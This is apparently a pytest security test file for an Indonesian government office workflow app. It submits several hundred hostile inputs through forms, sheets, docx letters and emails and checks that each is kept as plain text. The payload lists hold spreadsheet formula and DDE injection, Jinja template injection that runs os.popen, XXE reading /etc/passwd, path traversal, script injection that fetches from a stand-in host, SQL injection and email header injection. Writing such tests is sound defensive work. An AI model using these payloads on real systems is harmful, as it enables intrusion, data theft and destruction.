"""What hostile people type comes out as the plain text that it is, wherever the office writes it."""

from __future__ import annotations

import io
import logging
import re
import unicodedata
from contextlib import suppress
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from zipfile import ZipFile

import pytest
from docx import Document
from lxml import etree, html
from openpyxl import load_workbook

from connectors.letters.render import render
from connectors.mail.contexts import kind_of
from connectors.mail.message import POLICY, Composer, Unsendable, checked_address, header
from flows.engine.model import ACTION
from flows.engine.ports import CellWrite, Patch
from scripts.looking import open_cases, show_case, show_open_cases, whole_case
from tests.connectors.web.conftest import WebWorld

FORM = "/formulir/surat-masuk"
BOOK, TAB = "Umum dan Kepegawaian", "Surat Masuk"

LEADS = ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "'=", " =", "\u200b=", "%0A=", ";=")
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://jahat.example","klik")', "SUM(A1:A9)",
    'IMPORTXML("http://jahat.example","//a")', 'WEBSERVICE("http://jahat.example")', "DDE(\"cmd\";\"/C calc\";\"!A0\")",
)  # fmt: skip
JINJA = ("7*7", "config", "self.__init__.__globals__", "''.__class__.__mro__", "cycler.__init__.__globals__.os.popen('id').read()")  # fmt: skip
JINJA_MARKS = ("{{{{ {} }}}}", "{{% if {} %}}x{{% endif %}}", "{{{{r {} }}}}", "{{%p for a in {} %}}", "{{# {} #}}", "{{%tr {} %}}", "${{{}}}", "#{{{}}}")  # fmt: skip
DOCX = (
    "</w:t></w:r></w:p>", "<w:p/>", "]]>", "<![CDATA[x]]>", "&amp;&#x41;&lt;", "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "&x;", "<w:instrText>INCLUDETEXT</w:instrText>", "<w:br/>",
)  # fmt: skip
HEADERS = [
    f"{start}{end}{header}: {value}"
    for start in ("Perihal", "=?utf-8?B?SGFp?=", "=?utf-8?Q?=0D=0ABcc:_a@b.id?=")
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x85")
    for header, value in (("Bcc", "a@jahat.example"), ("Content-Type", "text/html"), ("Subject", "lain"))
]
PATHS = [
    f"{start}{name}"
    for start in ("../" * 6, "..\\" * 6, "/", "C:\\", "file:///", "%2e%2e%2f" * 3, "....//" * 3, "\\\\jahat.example\\c$\\")
    for name in ("etc/passwd", "secret.key", "CON", "NUL.docx", "a\x00.pdf")
]  # fmt: skip
SCRIPTS = [
    shape.format(code)
    for shape in (
        "<script>{}</script>", "<img src=x onerror={}>", "\"><svg/onload={}>", "' autofocus onfocus='{}", "javascript:{}",
        "<a href=\"javascript:{}\">klik</a>", "</textarea><script>{}</script>", "<iframe srcdoc='{}'>", "<style>@import '{}'</style>",
    )
    for code in ("alert(1)", "fetch(`//jahat.example`)", "document.title=1")
]  # fmt: skip
SQL = [
    f"{start}{statement}{end}"
    for start in ("'", '"', "1)", "x';", "\\'")
    for statement in (" OR 1=1", " DROP TABLE cases", " UNION SELECT body FROM cases", "; DELETE FROM events")
    for end in ("--", ";", "/*")
]
TERMINAL = [
    f"{code}teks" for code in ("\x1b[2J", "\x1b]0;judul\x07", "\x1b[31m", "\x9b31m", "\x08\x08\x08", "\x07", "\r", "[red]", "[/red]", "[/]", "[bold]x[/bold]", "[link=http://jahat.example]")
]  # fmt: skip
SHAPES = [
    "\u202egnp.exe", "\u2066abc\u2069", "pаypal", "Кepala Dinas", "ｆｕｌｌ", "a\u0301" * 40, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙a", "\ufeffbom", "a\u00adb", "\u200d\u200d", "🏴\U000e0067\U000e007f",
    "\ud7ff", "\ue000", "a\ufffeb", "\U0001f600" * 20, "ÿ" * 200, "a" * 1999, "%s%n%x", "{0}{a}", "%(asctime)s", "$(id)", "`id`", "| id", "; id", "&& id",
    "NULL", "None", "nan", "true", "1e9", "1/2", "00123", "３", "٣", "#REF!", "#N/A", "TRUE", "\\u0041", "\\x41", "\\", '"', "''", ",", ";", "a\tb", "-- ", "/*", "*/",
]  # fmt: skip


def payloads() -> list[str]:
    """All families, each payload once."""
    formulas = [lead + formula for lead in LEADS for formula in FORMULAS]
    jinja = [mark.format(code) for mark in JINJA_MARKS for code in JINJA]
    every = [*formulas, *jinja, *DOCX, *HEADERS, *PATHS, *SCRIPTS, *SQL, *TERMINAL, *SHAPES]
    return list(dict.fromkeys(every))


def seen(text: object) -> str:
    """A text without what no sheet or letter can hold (control characters) and without its spacing."""
    return "".join(
        c
        for c in str(text)
        if not c.isspace() and unicodedata.category(c) != "Cc" and c not in "\ufffe\uffff\ufffd"
    )


@pytest.fixture
def typed(world: WebWorld, caplog: pytest.LogCaptureFixture) -> dict[str, str]:
    """Every payload handed in by the form, in every field that takes text, and as the name of a file; number -> payload."""
    caplog.set_level(logging.INFO, logger="alur.web")
    visitor = world.visitor()
    visitor.open(FORM)
    ids, hidden = visitor.ids(), visitor.hidden()
    hidden.pop("kiriman")
    found = {f"{number:03}": payload for number, payload in enumerate(payloads())}
    for number, payload in found.items():
        fields = dict.fromkeys(("Asal surat", "Perihal", "Ringkasan", "Lampiran"), payload)
        fields |= {"Nomor surat": number, "Tanggal surat": "2026-10-01", "Tanggal penyampaian": "2026-10-05"}
        data: dict[str, object] = {**hidden, **{ids[label]: value for label, value in fields.items()}}
        data[ids["Pindaian surat"]] = (io.BytesIO(b"%PDF-1.7 isi"), payload.replace("\x00", "") + ".pdf")
        answer = visitor.client.post(
            FORM, data=data, content_type="multipart/form-data",
            environ_base={"REMOTE_ADDR": f"10.0.0.{int(number) // 20}"},
        )  # fmt: skip
        assert answer.status_code == 302, (payload, answer.get_data(as_text=True))
    return found


def test_there_are_enough_of_them() -> None:
    assert len(payloads()) >= 300


def test_sheets_letters_journal_names_and_logs_hold_payloads_as_text(
    world: WebWorld,
    typed: dict[str, str],
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for record in caplog.records:
        assert re.fullmatch(r"(GET|POST) [a-z.]+ \d{3}", record.getMessage())
    while world.office.journal.pending_submissions():
        world.sync()
    register = world.office.registers
    book = register.read(BOOK)
    at = {heading: place for place, heading in enumerate(book.tabs[TAB].headings)}
    rows = {str(row[at["Nomor surat"]]): row for row in book.tabs[TAB].rows if row and row[0]}
    assert rows.keys() == typed.keys()
    for number, payload in typed.items():
        for heading in ("Asal surat", "Perihal", "Ringkasan", "Lampiran"):
            assert seen(rows[number][at[heading]]) == seen(payload), (heading, payload)
    _no_formula(world, {seen(payload) for payload in typed.values()})
    _letters(world, typed, {number: str(row[0]) for number, row in rows.items()})
    names = [
        path.relative_to(world.office.documents).as_posix() for path in world.office.documents.rglob("*.*")
    ]
    assert all(re.fullmatch(r"[A-Za-z0-9/._-]+", name) for name in names)
    assert not [path for path in world.office.folder.parent.iterdir() if path != world.office.folder]
    assert world.office.journal.verify() == []
    show_open_cases(open_cases(world.office))
    show_case(whole_case(world.office, str(rows["000"][0])) or {})
    told = capsys.readouterr().out
    assert "SM-2026-" in told
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", told)


def _no_formula(world: WebWorld, texts: set[str]) -> None:
    """Another program reads the workbook: every payload is a string, no cell is a formula or a link."""
    book = load_workbook(world.office.folder / "registers" / f"{BOOK}.xlsx")
    met = set()
    for row in book[TAB].iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert cell.hyperlink is None
            met.add(seen(cell.value))
    assert {text for text in texts if text} <= met
    book.close()


def _letters(world: WebWorld, typed: dict[str, str], ids: dict[str, str]) -> None:
    """The clerk receives some of every family; each letter is whole and says the payload, sign by sign."""
    some = dict(list(typed.items())[::9])
    book = world.office.registers.read(BOOK)
    refs = {str(row[0]): ref for ref, row in enumerate(book.tabs[TAB].rows) if row and row[0]}
    writes = [CellWrite(TAB, refs[ids[number]], ACTION, "Terima dan agendakan") for number in some]
    world.office.registers.write(book.workbook, book.stamp, Patch(cells=writes))
    world.sync()
    cases = world.office.journal.cases(ids.values())
    for number, payload in some.items():
        case = cases[ids[number]]
        assert [letter.made for letter in case.letters] == [True], (payload, case)
        (letter,) = case.letters
        assert seen(payload) in _words((world.office.documents / letter.file).read_bytes()), payload


def _words(letter: bytes) -> str:
    """What a letter says; it is whole, and holds no field and no link."""
    with ZipFile(io.BytesIO(letter)) as docx:
        tree = etree.fromstring(docx.read("word/document.xml"))
        assert "jahat.example" not in docx.read("word/_rels/document.xml.rels").decode()
    assert not list(tree.iter("{*}instrText", "{*}hyperlink", "{*}fldSimple"))
    return seen("".join(tree.itertext("{*}t")))


def test_a_letter_that_holds_every_payload_says_them_all(tmp_path: Path) -> None:
    paper = Document()
    paper.add_paragraph("{{ perihal }}")
    paper.add_paragraph("{{ isi | upper }}")
    paper.save(tmp_path / "surat.docx")
    every = payloads()
    for start in range(0, len(every), 12):
        some = every[start : start + 12]
        said = _words(render(tmp_path / "surat.docx", {"perihal": "\n".join(some), "isi": ""}))
        assert said == "".join(map(seen, some))


def test_pages_and_addresses_show_payloads_as_text(world: WebWorld) -> None:
    visitor = world.visitor()
    visitor.open(FORM)
    ids, hidden = visitor.ids(), visitor.hidden()
    plain = _tags(visitor.client.post(FORM, data={**hidden, ids["Asal surat"]: "biasa"}).data)
    for number, payload in enumerate(payloads()):
        where = {"REMOTE_ADDR": f"10.0.1.{number // 30}"}
        page = visitor.client.post(FORM, data={**hidden, ids["Asal surat"]: payload}, environ_base=where).data
        assert _tags(page) == plain, payload
        value = html.fromstring(page.decode()).get_element_by_id(ids["Asal surat"]).get("value")
        assert seen(value) == seen(payload)
        code = visitor.client.get("/lacak", query_string={"kode": payload})
        assert seen(html.fromstring(code.data.decode()).get_element_by_id("kode").get("value")) in seen(
            payload
        )
        gone = visitor.client.get(
            "/formulir/" + payload.encode("utf-8", "replace").hex() + "%0d%0aX-Jahat: 1"
        )
        assert gone.status_code == 404
        assert "X-Jahat" not in gone.headers


def _tags(page: bytes) -> list[tuple[str, tuple[str, ...]]]:
    """The bones of a page: its elements and the names of their attributes."""
    return [(str(one.tag), tuple(sorted(one.keys()))) for one in html.fromstring(page.decode()).iter()]


def test_mails_show_payloads_as_text_and_no_header_takes_one(world: WebWorld) -> None:
    composer: Composer = world.office.mail.composer
    kind = kind_of("permintaan_keputusan")
    every = payloads()
    base = {
        "id": "x", "case": "SM-2026-0001", "visit": 1, "template": kind.name, "to": ["kepala@dinkop.example"],
        "ref": "ALR-1", "at": world.clock.at.isoformat(),
    }  # fmt: skip

    def compose(**changed: object) -> bytes:
        links = {"tautan": "http://127.0.0.1:8000/keputusan/x", "berlaku_sampai": "2026-10-07T09:00:00+07:00"}
        composer.links = lambda payload: links
        return bytes(composer.compose({**base, "context": kind.sample, **changed}))

    usual = message_from_bytes(compose(), policy=policy.default)
    for start in range(0, len(every), 150):
        some = every[start : start + 150]
        raw = compose(context={**kind.sample, "dilihat": [[f"k{n}", text] for n, text in enumerate(some)]})
        mail = message_from_bytes(raw, policy=policy.default)
        assert [(k, v) for k, v in mail.items() if k != "Content-Type"] == [
            (k, v) for k, v in usual.items() if k != "Content-Type"
        ]
        page = html.fromstring(mail.get_body(("html",)).get_content())
        assert not {"script", "img", "iframe", "svg", "form", "object"} & {
            str(one.tag) for one in page.iter()
        }
        assert {a.get("href") for a in page.iter("a")} == {"http://127.0.0.1:8000/keputusan/x"}
        for part in (page.text_content(), mail.get_body(("plain",)).get_content()):
            words = _visible(part)
            assert [text for text in some if _visible(text)[:1500] not in words] == []
    for payload in every:
        for address in (payload, f"a@b.example,{payload}", f"{payload}@b.example"):
            with suppress(Unsendable):
                assert re.fullmatch(r"[A-Za-z0-9._%+-]+@b\.example", checked_address(address)), payload
        with suppress(Unsendable):
            message = EmailMessage(policy=POLICY)
            message["X-Alur-Ref"] = header(payload)
            assert message_from_bytes(bytes(message), policy=policy.default).keys() == ["X-Alur-Ref"], payload


def test_what_is_only_control_characters_is_no_answer(world: WebWorld) -> None:
    visitor = world.visitor()
    visitor.open(FORM)
    assert "Isi «Perihal» dulu" in visitor.send(FORM, {"Perihal": "\x1b\ufffe"})


def _visible(text: str) -> str:
    """What of a text somebody sees: invisible characters left out."""
    return "".join(
        c for c in text if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf", "Co", "Cs")
    )
